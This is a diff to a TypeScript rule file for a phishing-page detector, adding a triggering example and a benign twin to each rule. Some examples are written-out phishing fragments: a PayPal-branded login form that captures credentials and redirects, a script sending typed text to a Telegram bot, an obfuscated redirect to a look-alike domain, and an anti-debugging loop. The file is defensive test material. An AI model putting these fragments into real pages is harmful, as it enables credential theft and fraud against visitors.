@@ -1,3 +1,4 @@
+import { ALARM, CARD, LOGIN, loginTo } from './examples.ts'
 import type { Rule } from './rule.ts'
 
 /** Rules of the page's contents. */
@@ -9,6 +10,11 @@ export const CONTENT_RULES = {
     message:
       "The page asks for a password or another secret in a brand's name, but is not on the brand's website.",
     ref: 'https://www.usenix.org/conference/usenixsecurity22/presentation/liu-ruofan',
+    example: { html: `<title>Log in to your PayPal account</title>${LOGIN}` },
+    twin: {
+      url: 'https://www.paypal.com/signin',
+      html: `<title>Log in to your PayPal account</title>${LOGIN}`,
+    },
   },
   'content.brand_elsewhere': {
     points: 10,
@@ -16,6 +22,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: "The page speaks in a brand's name, but is not on the brand's website.",
     ref: null,
+    example: '<title>PayPal</title><h1>PayPal</h1><p>Welcome</p>',
+    twin: '<title>We take PayPal</title><h1>We take PayPal</h1><p>Welcome</p>',
   },
   'content.foreign_identity': {
     points: 60,
@@ -23,6 +31,11 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'The page poses as another website, and asks for a password or another secret.',
     ref: 'https://www.usenix.org/conference/usenixsecurity21/presentation/lin',
+    example: `<title>Harrowgate Dental</title><link rel="canonical" href="https://my.harrowgate-dental.com/"><link rel="icon" href="https://www.harrowgate-dental.com/icon.png">${LOGIN}`,
+    twin: {
+      url: 'https://my.harrowgate-dental.com/',
+      html: `<title>Harrowgate Dental</title><link rel="canonical" href="https://my.harrowgate-dental.com/"><link rel="icon" href="https://www.harrowgate-dental.com/icon.png">${LOGIN}`,
+    },
   },
   'content.foreign_names': {
     points: 35,
@@ -30,6 +43,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'The page asks for a secret, and has the name and the pictures or links of another website.',
     ref: null,
+    example: `<title>Harrowgate Dental</title><link rel="icon" href="https://www.harrowgate-dental.com/icon.png"><img src="https://www.harrowgate-dental.com/logo.png" alt="Harrowgate Dental">${LOGIN}`,
+    twin: `<title>Log in</title><a href="https://www.harrowgate-dental.com/">Our dentist</a>${LOGIN}`,
   },
   'content.collect_and_leave': {
     points: 30,
@@ -37,6 +52,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'The page sends away what was typed, and then leads to the website that it poses as.',
     ref: null,
+    example: `<title>Log in to your PayPal account</title>${LOGIN}<script>document.forms[0].onsubmit = (event) => { event.preventDefault(); fetch('/in', { method: 'POST', body: new FormData(event.target) }); location.href = 'https://www.paypal.com/' }</script>`,
+    twin: `<title>Log in to your PayPal account</title>${LOGIN}`,
   },
   'content.form_cross_site': {
     points: 30,
@@ -44,6 +61,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'What is typed into the form is sent to another website.',
     ref: null,
+    example: loginTo('https://vandorelh.com/in'),
+    twin: LOGIN,
   },
   'content.form_http': {
     points: 30,
@@ -51,6 +70,8 @@ export const CONTENT_RULES = {
     category: 'insecure_transport',
     message: 'What is typed into the form is sent unencrypted (http).',
     ref: null,
+    example: loginTo('http://www.quarnelz-site.com/in'),
+    twin: LOGIN,
   },
   'content.form_ip': {
     points: 30,
@@ -58,6 +79,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'What is typed into the form is sent to a number (an IP address) in place of a website.',
     ref: null,
+    example: loginTo('https://203.0.113.7/in'),
+    twin: LOGIN,
   },
   'content.form_mail': {
     points: 30,
@@ -65,6 +88,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'What is typed into the form is sent by e-mail.',
     ref: null,
+    example: loginTo('mailto:anna@vandorelh.com'),
+    twin: LOGIN,
   },
   'content.form_bot': {
     points: 35,
@@ -72,6 +97,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'What is typed into the page is sent to a service that collects forms for anybody.',
     ref: null,
+    example: loginTo('https://formspree.io/f/x'),
+    twin: '<form action="https://formspree.io/f/x"><input type="email" placeholder="Your address"><textarea placeholder="Your message"></textarea><button>Send</button></form>',
   },
   'content.mixed_letters': {
     points: 45,
@@ -79,6 +106,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'The page asks for a secret, and hides its words from filters by look-alike letters.',
     ref: null,
+    example: `<h1>S\u0456gn in to your acc\u043eunt</h1>${LOGIN}`,
+    twin: `<h1>Sign in to your account</h1>${LOGIN}`,
   },
   'content.pictured_form': {
     points: 45,
@@ -86,6 +115,9 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'The page asks for a secret, and has its words in pictures, where filters do not read them.',
     ref: null,
+    example:
+      '<img src="/form.png"><form method="post"><input name="a"><input type="password" name="b"><button></button></form>',
+    twin: `<img src="/form.png">${LOGIN}`,
   },
   'content.card_collector': {
     points: 60,
@@ -93,6 +125,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: "A card's data is sent to a service that collects forms, as no honest shop does.",
     ref: null,
+    example: `<form action="https://formspree.io/f/x">${CARD}</form>`,
+    twin: `<form action="/pay">${CARD}</form>`,
   },
   'content.form_chat': {
     points: 60,
@@ -100,6 +134,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'What is typed into the page is sent to a chat, as no honest website does.',
     ref: 'https://attack.mitre.org/techniques/T1567/004/',
+    example: `${LOGIN}<script>const send = (text) => fetch('https://api.telegram.org/bot1:x/sendMessage?text=' + text)</script>`,
+    twin: `${LOGIN}<a href="https://t.me/quarnelz">Telegram</a>`,
   },
   'content.password_over_http': {
     points: 20,
@@ -107,6 +143,8 @@ export const CONTENT_RULES = {
     category: 'insecure_transport',
     message: 'The page asks for a password over an unencrypted connection.',
     ref: null,
+    example: { url: 'http://www.quarnelz-site.com/', html: LOGIN },
+    twin: { url: 'https://www.quarnelz-site.com/', html: LOGIN },
   },
   'content.tenant_credential': {
     points: 25,
@@ -114,6 +152,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'The page asks for a password or another secret on a platform where anybody can put pages.',
     ref: null,
+    example: { url: 'https://quarnelz.github.io/', html: LOGIN },
+    twin: LOGIN,
   },
   'content.file_host_credential': {
     points: 40,
@@ -121,6 +161,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'The page asks for a secret from a place where files are kept, which could not even check it.',
     ref: null,
+    example: { url: 'https://quarnelz.s3.amazonaws.com/login.html', html: LOGIN },
+    twin: LOGIN,
   },
   'content.intruded_page': {
     points: 60,
@@ -129,6 +171,8 @@ export const CONTENT_RULES = {
     message:
       'The page asks for a secret, and lies in a folder where intruders hide pages in websites of others.',
     ref: null,
+    example: { url: 'https://www.quarnelz-site.com/wp-includes/css/in/', html: LOGIN },
+    twin: { url: 'https://www.quarnelz-site.com/wp-login.php', html: LOGIN },
   },
   'content.misplaced_page': {
     points: 25,
@@ -136,6 +180,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: 'The page asks for a secret, and lies in a folder in which websites have no pages.',
     ref: null,
+    example: { url: 'https://www.quarnelz-site.com/wp-content/plugins/forms/in/', html: LOGIN },
+    twin: { url: 'https://www.quarnelz-site.com/forms/in/', html: LOGIN },
   },
   'content.hot_linked_brand': {
     points: 25,
@@ -143,6 +189,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: "Most pictures, styles or links come straight from a brand's own website.",
     ref: null,
+    example: `<img src="https://www.paypalobjects.com/a.png"><img src="https://www.paypalobjects.com/b.png"><img src="https://www.paypalobjects.com/c.png">${LOGIN}`,
+    twin: `<img src="/a.png"><img src="/b.png"><img src="https://www.paypalobjects.com/c.png">${LOGIN}`,
   },
   'content.foreign_icon': {
     points: 15,
@@ -150,6 +198,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: "The icon of the page comes from a brand's website.",
     ref: null,
+    example: `<link rel="icon" href="https://www.paypalobjects.com/icon.ico">${LOGIN}`,
+    twin: `<link rel="icon" href="/icon.ico">${LOGIN}`,
   },
   'content.concealed_lookalike': {
     points: 60,
@@ -157,6 +207,8 @@ export const CONTENT_RULES = {
     category: 'phishing',
     message: "The page leads to a website with a brand's look-alike name, and hides that it does.",
     ref: 'https://attack.mitre.org/techniques/T1027/',
+    example: `<p>One moment</p><script>location.href = atob('aHR0cHM6Ly9wYXlwYTEuY29tLw==')</script>`,
+    twin: `<p>One moment</p><a href="https://paypa1.com/">A fraud: paypa1.com</a>`,
   },
   'content.hidden_frame': {
     points: 15,
@@ -164,6 +216,8 @@ export const CONTENT_RULES = {
     category: null,
     message: 'The page loads another website where nobody sees it.',
     ref: null,
+    example: '<iframe src="https://vandorelh.com/" style="display:none"></iframe>',
+    twin: '<iframe src="https://vandorelh.com/" width="400" height="300"></iframe>',
   },
   'content.obfuscation': {
     points: 10,
@@ -171,6 +225,8 @@ export const CONTENT_RULES = {
     category: null,
     message: 'The page hides what its programs do.',
     ref: null,
+    example: `${LOGIN}<script>eval(atob('MQ=='))</script>`,
+    twin: `${LOGIN}<script>JSON.parse(atob('MQ=='))</script>`,
   },
   'content.padding': {
     points: 10,
@@ -178,13 +234,8 @@ export const CONTENT_RULES = {
     category: null,
     message: 'Before its content the page has far more filling that nobody sees than a page needs.',
     ref: 'https://attack.mitre.org/techniques/T1027/001/',
-  },
-  'content.extreme_ratio': {
-    points: 10,
-    severity: 'medium',
-    category: null,
-    message: 'The answer unpacks to more than a hundred times what was sent.',
-    ref: 'https://cwe.mitre.org/data/definitions/409.html',
+    example: `<!--${' '.repeat(100_000)}-->${LOGIN}`,
+    twin: `<!-- The log-in -->${LOGIN}`,
   },
   'content.anti_analysis': {
     points: 10,
@@ -192,6 +243,8 @@ export const CONTENT_RULES = {
     category: null,
     message: 'The page hinders its visitor from looking into it.',
     ref: null,
+    example: `${LOGIN}<script>setInterval(() => { debugger }, 100)</script>`,
+    twin: `${LOGIN}<script>setInterval(() => { document.title = 'Log in' }, 100)</script>`,
   },
   'content.support_scam': {
     points: 55,
@@ -199,6 +252,8 @@ export const CONTENT_RULES = {
     category: 'scam',
     message: 'The page raises a false alarm and has its visitor call a number.',
     ref: 'https://www.ic3.gov/',
+    example: ALARM,
+    twin: '<h1>Windows help</h1><p>Is your computer infected with a virus? Call +1 888 555 0100.</p>',
   },
   'content.page_trap': {
     points: 20,
@@ -206,6 +261,8 @@ export const CONTENT_RULES = {
     category: 'scam',
     message: 'The page raises an alarm, and keeps its visitor from leaving or makes noise.',
     ref: null,
+    example: `${ALARM}<script>document.documentElement.requestFullscreen()</script>`,
+    twin: ALARM,
   },
   'content.notification_wall': {
     points: 35,
@@ -213,6 +270,8 @@ export const CONTENT_RULES = {
     category: 'scam',
     message: 'The page is nothing but the question whether it may send notifications.',
     ref: null,
+    example: '<p>Press Allow to go on</p><script>Notification.requestPermission()</script>',
+    twin: '<p>News by notification</p><button onclick="Notification.requestPermission()">Turn on</button>',
   },
   'content.urgency': {
     points: 5,
@@ -220,5 +279,7 @@ export const CONTENT_RULES = {
     category: null,
     message: 'The page threatens and presses for time.',
     ref: null,
+    example: `<p>Your account will be suspended within 24 hours.</p>${LOGIN}`,
+    twin: `<p>We answer within 24 hours.</p>${LOGIN}`,
   },
 } as const satisfies Record<string, Rule>
